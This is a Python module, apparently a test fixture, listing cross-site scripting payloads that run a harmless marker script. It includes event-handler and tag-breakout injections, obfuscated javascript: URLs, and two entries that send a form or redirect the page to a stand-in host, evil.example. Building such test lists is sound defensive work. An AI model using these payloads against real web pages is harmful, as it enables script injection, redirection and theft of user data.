"""Texts that would run a script in a page that does not escape them."""

from typing import Final

_SCRIPT: Final = "window.harmed=1"
PAYLOADS: Final = (
    f"<script>{_SCRIPT}</script>",
    f"</td></table><img src=x onerror={_SCRIPT}>",
    f'"><svg/onload={_SCRIPT}>',
    f"' autofocus onfocus={_SCRIPT} x='",
    f"</title></textarea></style></noscript><body onload={_SCRIPT}>",
    f"javascript:{_SCRIPT}",
    f"data:text/html,<script>{_SCRIPT}</script>",
    f"{{{{ self.__init__ }}}}{{% raw %}}<b onmouseover={_SCRIPT}>x",
    f"<iframe srcdoc='<script>parent.{_SCRIPT}</script>'></iframe>",
    f'<!--><math><mi//xlink:href="javascript:{_SCRIPT}">',
    f'<a href="java&#x0a;script:{_SCRIPT}">click</a><form action=//evil.example><button>',
    "<meta http-equiv=refresh content='0;url=//evil.example/'><base href=//evil.example/>",
    f"]]></pre><template><script>{_SCRIPT}</script></template>",
    f"\u202e\u2028<\u200bscript>{_SCRIPT}\ufeff\ufffe",
)
